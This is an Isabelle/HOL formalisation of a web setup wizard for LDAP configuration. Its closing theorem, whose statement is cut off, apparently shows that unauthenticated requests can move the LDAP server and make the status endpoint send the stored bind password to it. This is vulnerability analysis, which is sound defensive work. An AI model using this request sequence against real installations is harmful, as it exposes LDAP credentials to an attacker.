(* ===== verification/Setup_Wizard.thy ===== *)
theory Setup_Wizard
  imports Web_Auth Recycle_Latch
begin

text \<open>
  The first-run wizard of the web interface, \<^verbatim>\<open>nfs-klldap-ui/src/web/setup.rs\<close>, with the gate of
  \<^verbatim>\<open>web/mod.rs\<close> that sends unfinished installations to it: three steps that test a setting and then
  save it, the last of which marks the wizard complete and asks for a full restart.

  The configuration file is its text. The crate \<^verbatim>\<open>toml_edit\<close> that edits it and the deserializer that
  reads it are the parameter \<open>toml\<close>; \<open>toml_sound\<close> names what the properties use of them. Every
  request meets its own answers of the operating system. None of the handlers looks at a session.
\<close>

section \<open>Documents\<close>

record 'd toml =
  t_parse :: "string \<Rightarrow> 'd option"
  t_new :: 'd
  t_get :: "string list \<Rightarrow> 'd \<Rightarrow> string option"
  t_set :: "string \<Rightarrow> string \<Rightarrow> 'd \<Rightarrow> 'd"
  t_or_table :: "string \<Rightarrow> 'd \<Rightarrow> 'd"
  t_is_table :: "string \<Rightarrow> 'd \<Rightarrow> bool"
  t_set_in :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'd \<Rightarrow> 'd"
  t_text :: "'d \<Rightarrow> string"
  t_conf :: "string \<Rightarrow> (config_error, NfsKlldapConfig) result"

record 'd wizard_os =
  wz_toml :: "'d toml"
  wz_probes :: "nat \<Rightarrow> probes"
  wz_save :: "nat \<Rightarrow> (string, unit) result"
  wz_mark_ok :: "nat \<Rightarrow> bool"
  wz_clock :: "nat \<Rightarrow> nat"
  wz_recycle :: recycle_env

record wizard =
  wz_conf :: "string option"
  wz_marker :: bool
  step2_uri :: "string option"
  step3_dn :: "string option"
  step3_pw :: "string option"
  wz_latch :: latch
  wz_looks :: nat
  bind_calls :: "ldapsearch_call list"

definition probes_now :: "'d wizard_os \<Rightarrow> wizard \<Rightarrow> probes" where
  "probes_now w s =
     (wz_probes w (wz_looks s))
       \<lparr>conf_parsed := (case wz_conf s of None \<Rightarrow> Err ConfigIo | Some t \<Rightarrow> t_conf (wz_toml w) t),
        wizard_marker := wz_marker s\<rparr>"

section \<open>Saving\<close>

datatype wizard_error =
    BadScheme | IpHost | NotReachable LdapReachability | Untested | DnRequired | PwRequired
  | SaveFailed string | LoadFailed config_error | UriNotSet | BindRefused bind_error | NoSavedCreds | VolumeMissing

datatype wizard_response =
    Redirected string
  | StepPage nat nat "wizard_error option" string
  | TestAnswer "(wizard_error, unit) result"
  | RestartingPage

definition document :: "'d wizard_os \<Rightarrow> wizard \<Rightarrow> 'd" where
  "document w s = unwrap_or (t_parse (wz_toml w) (unwrap_or (wz_conf s) [])) (t_new (wz_toml w))"

definition atomic_write_config :: "'d wizard_os \<Rightarrow> string \<Rightarrow> wizard \<Rightarrow> (string, unit) result \<times> wizard" where
  "atomic_write_config w content s =
     (case wz_save w (wz_looks s) of
        Inl e \<Rightarrow> (Err e, s)
      | Inr _ \<Rightarrow> (Ok (), s\<lparr>wz_conf := Some content\<rparr>))"

definition write_ldap_uri :: "'d wizard_os \<Rightarrow> string \<Rightarrow> wizard \<Rightarrow> (string, unit) result \<times> wizard" where
  "write_ldap_uri w uri s =
     atomic_write_config w (t_text (wz_toml w) (t_set (wz_toml w) ''ldap_uri'' (trim uri) (document w s))) s"

text \<open>A \<^verbatim>\<open>[sssd]\<close> that is no table, for example an inline one, is left as it is.\<close>

definition set_bind_creds :: "'d toml \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'd \<Rightarrow> 'd" where
  "set_bind_creds tm dn pw d0 =
     (let d = t_or_table tm ''sssd'' d0 in
      if t_is_table tm ''sssd'' d
      then t_set_in tm ''sssd'' ''ldap_default_authtok'' pw (t_set_in tm ''sssd'' ''ldap_default_bind_dn'' (trim dn) d)
      else d)"

definition write_bind_creds :: "'d wizard_os \<Rightarrow> string \<Rightarrow> string \<Rightarrow> wizard \<Rightarrow> (string, unit) result \<times> wizard" where
  "write_bind_creds w dn pw s =
     atomic_write_config w (t_text (wz_toml w) (set_bind_creds (wz_toml w) dn pw (document w s))) s"

definition read_ldap_uri_from_disk :: "'d wizard_os \<Rightarrow> wizard \<Rightarrow> string" where
  "read_ldap_uri_from_disk w s =
     unwrap_or (Option.bind (wz_conf s) (\<lambda>raw.
       Option.bind (t_parse (wz_toml w) raw) (t_get (wz_toml w) [''ldap_uri'']))) []"

definition read_bind_dn_from_disk :: "'d wizard_os \<Rightarrow> wizard \<Rightarrow> string" where
  "read_bind_dn_from_disk w s =
     unwrap_or (Option.bind (wz_conf s) (\<lambda>raw.
       Option.bind (t_parse (wz_toml w) raw) (t_get (wz_toml w) [''sssd'', ''ldap_default_bind_dn'']))) []"

section \<open>Tests\<close>

definition validate_ldap_uri :: "string \<Rightarrow> (wizard_error, string) result" where
  "validate_ldap_uri uri0 =
     (let uri = trim uri0 in
      if uri = [] \<or> (\<not> starts_with uri ''ldap://'' \<and> \<not> starts_with uri ''ldaps://'') then Err BadScheme
      else if host_is_ip (extract_host_from_uri uri) then Err IpHost
      else Ok uri)"

definition step2_test_matches :: "string option \<Rightarrow> string \<Rightarrow> bool" where
  "step2_test_matches cached submitted = (cached = Some (trim submitted))"

definition step3_test_matches :: "string option \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "step3_test_matches cached_dn cached_pw dn pw = (cached_dn = Some (trim dn) \<and> cached_pw = Some pw)"

definition bind_probe :: "probes \<Rightarrow> NfsKlldapConfig \<Rightarrow> wizard \<Rightarrow> (wizard_error, unit) result \<times> wizard" where
  "bind_probe p cfg s =
     (case check_ldap_bind p cfg of Inl e \<Rightarrow> Err (BindRefused e) | Inr _ \<Rightarrow> Ok (),
      s\<lparr>bind_calls := bind_calls s @ [bind_probe_call cfg]\<rparr>)"

definition run_bind_probe_from_disk :: "probes \<Rightarrow> wizard \<Rightarrow> (wizard_error, unit) result option \<times> wizard" where
  "run_bind_probe_from_disk p s =
     (case load_lenient (pr_env p) (conf_parsed p) of
        Inl _ \<Rightarrow> (None, s)
      | Inr cfg \<Rightarrow>
          if is_blank (ldap_uri cfg) \<or> bind_fields_blank cfg then (None, s)
          else case bind_probe p cfg s of (r, s) \<Rightarrow> (Some r, s))"

definition with_creds :: "string \<Rightarrow> string \<Rightarrow> NfsKlldapConfig \<Rightarrow> NfsKlldapConfig" where
  "with_creds dn pw cfg =
     cfg\<lparr>sssd := (sssd cfg)
       \<lparr>ldap_default_bind_dn := trim dn,
        ldap_default_authtok := (if pw \<noteq> [] then pw else ldap_default_authtok (sssd cfg))\<rparr>\<rparr>"

definition run_bind_probe_blocking ::
  "probes \<Rightarrow> string \<Rightarrow> string \<Rightarrow> wizard \<Rightarrow> (wizard_error, unit) result \<times> wizard" where
  "run_bind_probe_blocking p dn pw s =
     (case load_lenient (pr_env p) (conf_parsed p) of
        Inl e \<Rightarrow> (Err (LoadFailed e), s)
      | Inr cfg \<Rightarrow>
          if is_blank (ldap_uri cfg) then (Err UriNotSet, s) else bind_probe p (with_creds dn pw cfg) s)"

section \<open>Handlers\<close>

definition setup_step1 :: "probes \<Rightarrow> wizard \<Rightarrow> wizard_response" where
  "setup_step1 p s =
     (if wz_marker s then Redirected ''/login''
      else if compute_wizard_step p \<noteq> WaitForPersistentVolume then Redirected (setup_redirect_for_step p)
      else StepPage 1 200 None [])"

definition setup_step1_verify :: "probes \<Rightarrow> wizard_response" where
  "setup_step1_verify p = (if check_persistent_writable p then Redirected ''/setup/2'' else StepPage 1 400 (Some VolumeMissing) [])"

definition setup_step2 :: "'d wizard_os \<Rightarrow> probes \<Rightarrow> wizard \<Rightarrow> wizard_response" where
  "setup_step2 w p s =
     (if wz_marker s then Redirected ''/login''
      else if compute_wizard_step p = WaitForPersistentVolume then Redirected ''/setup/1''
      else if compute_wizard_step p = AddBindCredentials then Redirected ''/setup/3''
      else StepPage 2 200 None (read_ldap_uri_from_disk w s))"

definition setup_step2_test :: "probes \<Rightarrow> string \<Rightarrow> wizard \<Rightarrow> wizard_response \<times> wizard" where
  "setup_step2_test p form s =
     (case validate_ldap_uri form of
        Inl e \<Rightarrow> (TestAnswer (Err e), s\<lparr>step2_uri := None\<rparr>)
      | Inr uri \<Rightarrow>
          (case check_ldap_reachability p (extract_host_from_uri uri) uri of
             Reachable \<Rightarrow> (TestAnswer (Ok ()), s\<lparr>step2_uri := Some (trim uri)\<rparr>)
           | other \<Rightarrow> (TestAnswer (Err (NotReachable other)), s\<lparr>step2_uri := None\<rparr>)))"

definition setup_step2_continue :: "'d wizard_os \<Rightarrow> string \<Rightarrow> wizard \<Rightarrow> wizard_response \<times> wizard" where
  "setup_step2_continue w form s =
     (case validate_ldap_uri form of
        Inl e \<Rightarrow> (StepPage 2 400 (Some e) form, s)
      | Inr uri \<Rightarrow>
          if \<not> step2_test_matches (step2_uri s) uri then (StepPage 2 400 (Some Untested) uri, s)
          else case write_ldap_uri w uri s of
            (Inl e, s) \<Rightarrow> (StepPage 2 400 (Some (SaveFailed e)) uri, s)
          | (Inr _, s) \<Rightarrow> (Redirected ''/setup/3'', s\<lparr>step2_uri := None\<rparr>))"

definition setup_step3 :: "'d wizard_os \<Rightarrow> probes \<Rightarrow> wizard \<Rightarrow> wizard_response" where
  "setup_step3 w p s =
     (if wz_marker s then Redirected ''/login''
      else if compute_wizard_step p = WaitForPersistentVolume then Redirected ''/setup/1''
      else if compute_wizard_step p = SetLdapUri then Redirected ''/setup/2''
      else StepPage 3 200 None (read_bind_dn_from_disk w s))"

definition setup_step3_test :: "probes \<Rightarrow> string \<Rightarrow> string \<Rightarrow> wizard \<Rightarrow> wizard_response \<times> wizard" where
  "setup_step3_test p dn pw s =
     (if is_blank dn then (TestAnswer (Err DnRequired), s\<lparr>step3_dn := None, step3_pw := None\<rparr>)
      else if is_blank pw then (TestAnswer (Err PwRequired), s\<lparr>step3_dn := None, step3_pw := None\<rparr>)
      else case run_bind_probe_blocking p dn pw s of
        (Inr _, s) \<Rightarrow> (TestAnswer (Ok ()), s\<lparr>step3_dn := Some (trim dn), step3_pw := Some pw\<rparr>)
      | (Inl e, s) \<Rightarrow> (TestAnswer (Err e), s\<lparr>step3_dn := None, step3_pw := None\<rparr>))"

definition mark_setup_wizard_complete :: "'d wizard_os \<Rightarrow> wizard \<Rightarrow> wizard" where
  "mark_setup_wizard_complete w s = (if wz_mark_ok w (wz_looks s) then s\<lparr>wz_marker := True\<rparr> else s)"

definition setup_step3_continue :: "'d wizard_os \<Rightarrow> string \<Rightarrow> string \<Rightarrow> wizard \<Rightarrow> wizard_response \<times> wizard" where
  "setup_step3_continue w dn pw s =
     (if is_blank dn then (StepPage 3 400 (Some DnRequired) dn, s)
      else if is_blank pw then (StepPage 3 400 (Some PwRequired) dn, s)
      else if \<not> step3_test_matches (step3_dn s) (step3_pw s) dn pw then (StepPage 3 400 (Some Untested) dn, s)
      else case write_bind_creds w dn pw s of
        (Inl e, s) \<Rightarrow> (StepPage 3 400 (Some (SaveFailed e)) dn, s)
      | (Inr _, s) \<Rightarrow>
          let s = (mark_setup_wizard_complete w s)\<lparr>step3_dn := None, step3_pw := None\<rparr> in
          (RestartingPage,
           s\<lparr>wz_latch := snd (try_schedule_service_recycle (wz_recycle w) (wz_clock w (wz_looks s)) FullRestart (wz_latch s))\<rparr>))"

definition setup_step3_status :: "probes \<Rightarrow> wizard \<Rightarrow> wizard_response \<times> wizard" where
  "setup_step3_status p s =
     (case run_bind_probe_from_disk p s of
        (None, s) \<Rightarrow> (TestAnswer (Err NoSavedCreds), s)
      | (Some r, s) \<Rightarrow> (TestAnswer r, s))"

section \<open>Requests\<close>

datatype setup_request =
    GetSetup | GetStep1 | PostVerify1 | GetStep2 | PostTest2 string | PostContinue2 string
  | GetStep3 | PostTest3 string string | PostContinue3 string string | GetStatus3

definition handle :: "'d wizard_os \<Rightarrow> setup_request \<Rightarrow> wizard \<Rightarrow> wizard_response \<times> wizard" where
  "handle w req s =
     (let p = probes_now w s in
      case req of
        GetSetup \<Rightarrow> (Redirected (setup_redirect_for_step p), s)
      | GetStep1 \<Rightarrow> (setup_step1 p s, s)
      | PostVerify1 \<Rightarrow> (setup_step1_verify p, s)
      | GetStep2 \<Rightarrow> (setup_step2 w p s, s)
      | PostTest2 uri \<Rightarrow> setup_step2_test p uri s
      | PostContinue2 uri \<Rightarrow> setup_step2_continue w uri s
      | GetStep3 \<Rightarrow> (setup_step3 w p s, s)
      | PostTest3 dn pw \<Rightarrow> setup_step3_test p dn pw s
      | PostContinue3 dn pw \<Rightarrow> setup_step3_continue w dn pw s
      | GetStatus3 \<Rightarrow> setup_step3_status p s)"

definition serve_setup :: "'d wizard_os \<Rightarrow> setup_request \<Rightarrow> wizard \<Rightarrow> wizard" where
  "serve_setup w req s = (snd (handle w req s))\<lparr>wz_looks := Suc (wz_looks s)\<rparr>"

text \<open>The gate before every route: the target of its redirect, if it redirects.\<close>

definition require_setup_complete :: "probes \<Rightarrow> string \<Rightarrow> string option" where
  "require_setup_complete p path =
     (if starts_with path ''/setup'' \<or> starts_with path ''/assets/''
         \<or> path \<in> {''/login'', ''/setup-password'', ''/restart-status'', ''/logout'', ''/client-manifest.json''}
      then None
      else if setup_wizard_required_with_marker p then Some (setup_redirect_for_step p)
      else None)"

section \<open>What is saved was tested\<close>

lemma check_ldap_reachability_now [simp]: "check_ldap_reachability (probes_now w s) = check_ldap_reachability (wz_probes w (wz_looks s))"
  by (rule ext)+ (simp add: check_ldap_reachability_def probes_now_def)

lemma check_ldap_bind_now [simp]: "check_ldap_bind (probes_now w s) = check_ldap_bind (wz_probes w (wz_looks s))"
  by (rule ext) (simp add: check_ldap_bind_def probes_now_def)

lemma with_creds_trim [simp]: "with_creds (trim dn) pw cfg = with_creds dn pw cfg"
  by (simp add: with_creds_def)

definition uri_tested :: "'d wizard_os \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> bool" where
  "uri_tested w n uri = (\<exists>i < n. check_ldap_reachability (wz_probes w i) (extract_host_from_uri uri) uri = Reachable)"

definition creds_tested :: "'d wizard_os \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "creds_tested w n dn pw = (\<exists>i < n. \<exists>cfg. check_ldap_bind (wz_probes w i) (with_creds dn pw cfg) = Ok ())"

definition tests_true :: "'d wizard_os \<Rightarrow> wizard \<Rightarrow> bool" where
  "tests_true w s =
     ((\<forall>uri. step2_uri s = Some uri \<longrightarrow> uri_tested w (wz_looks s) uri)
      \<and> (\<forall>dn pw. step3_dn s = Some dn \<longrightarrow> step3_pw s = Some pw \<longrightarrow> creds_tested w (wz_looks s) dn pw))"

lemma tested_mono: "n \<le> m \<Longrightarrow> uri_tested w n uri \<Longrightarrow> uri_tested w m uri"
  "n \<le> m \<Longrightarrow> creds_tested w n dn pw \<Longrightarrow> creds_tested w m dn pw"
  unfolding uri_tested_def creds_tested_def by (meson less_le_trans)+

lemma validate_ldap_uri_trim: "validate_ldap_uri form = Inr uri \<Longrightarrow> uri = trim form"
  by (auto simp: validate_ldap_uri_def Let_def split: if_splits)

lemma validate_ldap_uri_not_blank:
  assumes "validate_ldap_uri form = Inr uri"
  shows "\<not> is_blank uri"
proof -
  have "trim form \<noteq> []" using assms by (simp add: validate_ldap_uri_def Let_def split: if_splits)
  then show ?thesis unfolding validate_ldap_uri_trim[OF assms] by simp
qed

lemma bind_probe_fields [simp]:
  "step2_uri (snd (bind_probe p cfg s)) = step2_uri s" "step3_dn (snd (bind_probe p cfg s)) = step3_dn s"
  "step3_pw (snd (bind_probe p cfg s)) = step3_pw s" "wz_conf (snd (bind_probe p cfg s)) = wz_conf s"
  "wz_looks (snd (bind_probe p cfg s)) = wz_looks s" "wz_latch (snd (bind_probe p cfg s)) = wz_latch s"
  "wz_marker (snd (bind_probe p cfg s)) = wz_marker s"
  by (simp_all add: bind_probe_def)

lemma run_bind_probe_fields [simp]:
  "step2_uri (snd (run_bind_probe_blocking p dn pw s)) = step2_uri s" "wz_conf (snd (run_bind_probe_blocking p dn pw s)) = wz_conf s"
  "wz_looks (snd (run_bind_probe_blocking p dn pw s)) = wz_looks s" "wz_latch (snd (run_bind_probe_blocking p dn pw s)) = wz_latch s"
  "wz_marker (snd (run_bind_probe_blocking p dn pw s)) = wz_marker s"
  by (auto simp: run_bind_probe_blocking_def split: sum.split)

lemma run_bind_probe_from_disk_fields [simp]:
  "step2_uri (snd (run_bind_probe_from_disk p s)) = step2_uri s" "step3_dn (snd (run_bind_probe_from_disk p s)) = step3_dn s"
  "step3_pw (snd (run_bind_probe_from_disk p s)) = step3_pw s" "wz_conf (snd (run_bind_probe_from_disk p s)) = wz_conf s"
  by (auto simp: run_bind_probe_from_disk_def split: sum.split prod.split dest!: arg_cong[of "bind_probe _ _ _" _ snd])

lemma run_bind_probe_ok:
  assumes "fst (run_bind_probe_blocking (probes_now w s) dn pw s) = Inr u"
  obtains cfg where "check_ldap_bind (wz_probes w (wz_looks s)) (with_creds dn pw cfg) = Ok ()"
  using assms by (auto simp: run_bind_probe_blocking_def bind_probe_def split: sum.splits if_splits)

lemma tests_true_mono:
  assumes true: "tests_true w s" and 2: "step2_uri s' \<in> {None, step2_uri s}"
    and 3: "(step3_dn s', step3_pw s') \<in> {(None, None), (step3_dn s, step3_pw s)}" and n: "wz_looks s \<le> wz_looks s'"
  shows "tests_true w s'"
  unfolding tests_true_def
proof (intro conjI allI impI)
  fix uri assume "step2_uri s' = Some uri"
  with true 2 have "uri_tested w (wz_looks s) uri" by (auto simp: tests_true_def)
  with n show "uri_tested w (wz_looks s') uri" by (rule tested_mono)
next
  fix dn pw assume "step3_dn s' = Some dn" "step3_pw s' = Some pw"
  with true 3 have "creds_tested w (wz_looks s) dn pw" by (auto simp: tests_true_def)
  with n show "creds_tested w (wz_looks s') dn pw" by (rule tested_mono)
qed

lemma step2_test_true:
  assumes true: "tests_true w s"
  shows "tests_true w ((snd (setup_step2_test (probes_now w s) form s))\<lparr>wz_looks := Suc (wz_looks s)\<rparr>)"
proof (cases "\<exists>uri. validate_ldap_uri form = Inr uri \<and>
    check_ldap_reachability (wz_probes w (wz_looks s)) (extract_host_from_uri uri) uri = Reachable")
  case True
  then obtain uri where uri: "validate_ldap_uri form = Inr uri"
    "check_ldap_reachability (wz_probes w (wz_looks s)) (extract_host_from_uri uri) uri = Reachable" by blast
  then have "uri_tested w (Suc (wz_looks s)) uri" "trim uri = uri"
    using validate_ldap_uri_trim[OF uri(1)] by (auto simp: uri_tested_def)
  with true uri tested_mono(2)[of "wz_looks s" "Suc (wz_looks s)" w] show ?thesis
    by (simp add: tests_true_def setup_step2_test_def)
next
  case False
  then have "setup_step2_test (probes_now w s) form s = (fst (setup_step2_test (probes_now w s) form s), s\<lparr>step2_uri := None\<rparr>)"
    by (auto simp: setup_step2_test_def split: sum.split LdapReachability.split)
  then have "snd (setup_step2_test (probes_now w s) form s) = s\<lparr>step2_uri := None\<rparr>" by (metis snd_conv)
  then show ?thesis by (simp add: tests_true_mono[OF true])
qed

lemma step3_test_true:
  assumes true: "tests_true w s"
  shows "tests_true w ((snd (setup_step3_test (probes_now w s) dn pw s))\<lparr>wz_looks := Suc (wz_looks s)\<rparr>)"
proof (cases "fst (run_bind_probe_blocking (probes_now w s) dn pw s)")
  case (Inl e)
  show ?thesis
    by (rule tests_true_mono[OF true]) (simp_all add: setup_step3_test_def case_prod_beta Inl)
next
  case (Inr u)
  then obtain cfg where "check_ldap_bind (wz_probes w (wz_looks s)) (with_creds dn pw cfg) = Ok ()" by (rule run_bind_probe_ok)
  then have "creds_tested w (Suc (wz_looks s)) (trim dn) pw" by (auto simp: creds_tested_def)
  moreover have "uri_tested w (Suc (wz_looks s)) uri" if "step2_uri s = Some uri" for uri
    using true that tested_mono(1)[of "wz_looks s" "Suc (wz_looks s)" w uri] by (simp add: tests_true_def)
  ultimately show ?thesis
    by (simp add: tests_true_def setup_step3_test_def case_prod_beta Inr)
qed

lemma atomic_write_fields [simp]:
  "step2_uri (snd (atomic_write_config w t s)) = step2_uri s" "step3_dn (snd (atomic_write_config w t s)) = step3_dn s"
  "step3_pw (snd (atomic_write_config w t s)) = step3_pw s" "wz_looks (snd (atomic_write_config w t s)) = wz_looks s"
  by (simp_all add: atomic_write_config_def split: sum.split)

lemma mark_fields [simp]:
  "wz_conf (mark_setup_wizard_complete w s) = wz_conf s" "wz_looks (mark_setup_wizard_complete w s) = wz_looks s"
  "step2_uri (mark_setup_wizard_complete w s) = step2_uri s" "wz_latch (mark_setup_wizard_complete w s) = wz_latch s"
  by (simp_all add: mark_setup_wizard_complete_def)

lemma step2_continue_fields:
  "step2_uri (snd (setup_step2_continue w uri s)) \<in> {None, step2_uri s}"
  "step3_dn (snd (setup_step2_continue w uri s)) = step3_dn s" "step3_pw (snd (setup_step2_continue w uri s)) = step3_pw s"
  by (auto simp: setup_step2_continue_def write_ldap_uri_def case_prod_beta split: sum.split)

lemma step3_continue_fields:
  "step2_uri (snd (setup_step3_continue w dn pw s)) = step2_uri s"
  "(step3_dn (snd (setup_step3_continue w dn pw s)), step3_pw (snd (setup_step3_continue w dn pw s)))
     \<in> {(None, None), (step3_dn s, step3_pw s)}"
  by (auto simp: setup_step3_continue_def write_bind_creds_def Let_def case_prod_beta split: sum.split)

lemma serve_setup_tests: "tests_true w s \<Longrightarrow> tests_true w (serve_setup w req s)"
proof (cases req)
  case (PostContinue2 uri)
  assume "tests_true w s"
  then show ?thesis unfolding PostContinue2 serve_setup_def handle_def Let_def setup_request.case
    by (rule tests_true_mono) (use step2_continue_fields[of w uri s] in auto)
next
  case (PostContinue3 dn pw)
  assume "tests_true w s"
  then show ?thesis unfolding PostContinue3 serve_setup_def handle_def Let_def setup_request.case
    by (rule tests_true_mono) (use step3_continue_fields[of w dn pw s] in auto)
next
  case GetStatus3
  assume "tests_true w s"
  then show ?thesis unfolding GetStatus3 serve_setup_def handle_def Let_def setup_request.case
    by (rule tests_true_mono) (auto simp: setup_step3_status_def case_prod_beta split: option.split)
qed (simp_all add: serve_setup_def handle_def step2_test_true step3_test_true tests_true_mono)

lemma run_setup_tests: "tests_true w s \<Longrightarrow> tests_true w (fold (serve_setup w) reqs s)"
  by (induction reqs arbitrary: s) (simp_all add: serve_setup_tests)

lemma step2_continue_conf:
  assumes "wz_conf (snd (setup_step2_continue w form s)) \<noteq> wz_conf s"
  obtains uri where "step2_uri s = Some uri"
    "wz_conf (snd (setup_step2_continue w form s)) = Some (t_text (wz_toml w) (t_set (wz_toml w) ''ldap_uri'' uri (document w s)))"
proof (cases "validate_ldap_uri form")
  case (Inl e)
  with assms show thesis by (simp add: setup_step2_continue_def)
next
  case (Inr uri)
  with validate_ldap_uri_trim[OF Inr] assms that show thesis
    by (auto simp: setup_step2_continue_def write_ldap_uri_def atomic_write_config_def step2_test_matches_def
        split: if_splits sum.splits)
qed

lemma set_bind_creds_trim [simp]: "set_bind_creds tm (trim dn) pw d = set_bind_creds tm dn pw d"
  by (simp add: set_bind_creds_def Let_def)

lemma step3_continue_conf:
  assumes "wz_conf (snd (setup_step3_continue w dn pw s)) \<noteq> wz_conf s"
  shows "step3_dn s = Some (trim dn) \<and> step3_pw s = Some pw
    \<and> wz_conf (snd (setup_step3_continue w dn pw s)) = Some (t_text (wz_toml w) (set_bind_creds (wz_toml w) (trim dn) pw (document w s)))"
  using assms
  by (auto simp: setup_step3_continue_def write_bind_creds_def atomic_write_config_def step3_test_matches_def
      Let_def split: if_splits sum.splits)

lemma step2_test_conf [simp]: "wz_conf (snd (setup_step2_test p form s)) = wz_conf s"
  by (simp add: setup_step2_test_def split: sum.split LdapReachability.split)

lemma step3_test_conf [simp]: "wz_conf (snd (setup_step3_test p dn pw s)) = wz_conf s"
  by (simp add: setup_step3_test_def case_prod_beta split: sum.split)

lemma step3_status_conf [simp]: "wz_conf (snd (setup_step3_status p s)) = wz_conf s"
  by (simp add: setup_step3_status_def case_prod_beta split: option.split)


section \<open>A finished wizard still answers\<close>

text \<open>What is used of the TOML crates: a printed document reads back, and a value that is set is the one that is read.\<close>

definition toml_sound :: "'d toml \<Rightarrow> bool" where
  "toml_sound tm =
     ((\<forall>d. t_parse tm (t_text tm d) = Some d)
      \<and> (\<forall>d c uri. t_conf tm (t_text tm d) = Ok c \<longrightarrow>
           t_conf tm (t_text tm (t_set tm ''ldap_uri'' uri d)) = Ok (c\<lparr>ldap_uri := uri\<rparr>))
      \<and> (\<forall>d c dn pw. t_conf tm (t_text tm d) = Ok c \<longrightarrow> t_is_table tm ''sssd'' (t_or_table tm ''sssd'' d) \<longrightarrow>
           t_conf tm (t_text tm (t_set_in tm ''sssd'' ''ldap_default_authtok'' pw
             (t_set_in tm ''sssd'' ''ldap_default_bind_dn'' dn (t_or_table tm ''sssd'' d))))
           = Ok (c\<lparr>sssd := (sssd c)\<lparr>ldap_default_bind_dn := dn, ldap_default_authtok := pw\<rparr>\<rparr>)))"

text \<open>The file holds the document \<open>d\<close>, no variable of the environment overrides it and files can be written.\<close>

definition configured :: "'d wizard_os \<Rightarrow> 'd \<Rightarrow> NfsKlldapConfig \<Rightarrow> wizard \<Rightarrow> bool" where
  "configured w d c s =
     (wz_conf s = Some (t_text (wz_toml w) d) \<and> t_conf (wz_toml w) (t_text (wz_toml w) d) = Ok c
      \<and> (\<forall>n. pr_env (wz_probes w n) = (\<lambda>_. None) \<and> wz_save w n = Ok ()))"

lemma no_overrides [simp]: "apply_core_env_overrides (\<lambda>_. None) c = c"
  by (simp add: apply_core_env_overrides_def env_set_def env_set_opt_def env_flag_def env_replace_opt_def
      host_nfs_from_env_def env_webui_tls_def)

lemma configured_document: "toml_sound (wz_toml w) \<Longrightarrow> configured w d c s \<Longrightarrow> document w s = d"
  by (simp add: configured_def document_def toml_sound_def)

lemma configured_probes: "configured w d c s \<Longrightarrow> load_lenient (pr_env (probes_now w s)) (conf_parsed (probes_now w s)) = Ok c"
  by (simp add: configured_def probes_now_def load_lenient_def)

lemma setup_moves_server:
  assumes tm: "toml_sound (wz_toml w)" and s: "configured w d c s" and uri: "validate_ldap_uri uri = Ok uri"
    and up: "\<And>n. check_ldap_reachability (wz_probes w n) (extract_host_from_uri uri) uri = Reachable"
  shows "configured w (t_set (wz_toml w) ''ldap_uri'' uri d) (c\<lparr>ldap_uri := uri\<rparr>)
           (fold (serve_setup w) [PostTest2 uri, PostContinue2 uri] s)"
proof -
  have trim: "trim uri = uri" using validate_ldap_uri_trim[OF uri] by simp
  define s1 where "s1 = serve_setup w (PostTest2 uri) s"
  have s1: "configured w d c s1" "step2_uri s1 = Some uri"
    using s uri up by (simp_all add: s1_def serve_setup_def handle_def setup_step2_test_def trim configured_def)
  have "wz_conf (serve_setup w (PostContinue2 uri) s1) = Some (t_text (wz_toml w) (t_set (wz_toml w) ''ldap_uri'' uri d))"
    using s1 uri configured_document[OF tm s1(1)]
    by (simp add: serve_setup_def handle_def setup_step2_continue_def step2_test_matches_def trim
        write_ldap_uri_def atomic_write_config_def configured_def)
  moreover have "t_conf (wz_toml w) (t_text (wz_toml w) (t_set (wz_toml w) ''ldap_uri'' uri d)) = Ok (c\<lparr>ldap_uri := uri\<rparr>)"
    using tm s unfolding toml_sound_def configured_def by blast
  ultimately show ?thesis using s by (simp add: s1_def configured_def)
qed

lemma setup_replaces_creds:
  assumes tm: "toml_sound (wz_toml w)" and s: "configured w d c s"
    and table: "t_is_table (wz_toml w) ''sssd'' (t_or_table (wz_toml w) ''sssd'' d)"
    and uri: "\<not> is_blank (ldap_uri c)" and form: "\<not> is_blank dn" "\<not> is_blank pw"
    and bind: "\<And>n. check_ldap_bind (wz_probes w n) (with_creds dn pw c) = Ok ()"
  shows "let s' = fold (serve_setup w) [PostTest3 dn pw, PostContinue3 dn pw] s
         in (\<exists>t. wz_conf s' = Some t \<and> t_conf (wz_toml w) t =
                Ok (c\<lparr>sssd := (sssd c)\<lparr>ldap_default_bind_dn := trim dn, ldap_default_authtok := pw\<rparr>\<rparr>))
            \<and> restart_requested (wz_latch s') = Some FullRestart"
proof -
  define s1 where "s1 = serve_setup w (PostTest3 dn pw) s"
  have "run_bind_probe_blocking (probes_now w s) dn pw s = bind_probe (probes_now w s) (with_creds dn pw c) s"
    using configured_probes[OF s] uri by (simp add: run_bind_probe_blocking_def)
  then have s1: "configured w d c s1" "step3_dn s1 = Some (trim dn)" "step3_pw s1 = Some pw"
    using s bind form by (simp_all add: s1_def serve_setup_def handle_def setup_step3_test_def bind_probe_def configured_def)
  have saved: "setup_step3_continue w dn pw s1 = (RestartingPage, snd (setup_step3_continue w dn pw s1))"
    "wz_conf (snd (setup_step3_continue w dn pw s1)) = Some (t_text (wz_toml w) (set_bind_creds (wz_toml w) dn pw d))"
    "restart_requested (wz_latch (snd (setup_step3_continue w dn pw s1))) = Some FullRestart"
    using s1 form configured_document[OF tm s1(1)]
    by (auto simp: setup_step3_continue_def step3_test_matches_def write_bind_creds_def atomic_write_config_def configured_def
        Let_def try_schedule_service_recycle_def split: option.splits RecycleKind.splits)
  have "t_conf (wz_toml w) (t_text (wz_toml w) (set_bind_creds (wz_toml w) dn pw d))
      = Ok (c\<lparr>sssd := (sssd c)\<lparr>ldap_default_bind_dn := trim dn, ldap_default_authtok := pw\<rparr>\<rparr>)"
    using tm s table unfolding toml_sound_def configured_def set_bind_creds_def Let_def by simp
  with saved show ?thesis by (simp add: s1_def[symmetric] serve_setup_def[of w "PostContinue3 dn pw"] handle_def Let_def)
qed


text \<open>
  After the two requests that move the server, the status request of the wizard, which asks for no
  session either, binds at that server with the stored name and the stored password.
\<close>

theorem setup_status_leaks_password:
  fixes w :: "'d wizard_os"
  assumes "toml_sound (wz_toml w)" "configured w d c s" "\<not> bind_fields_blank c"
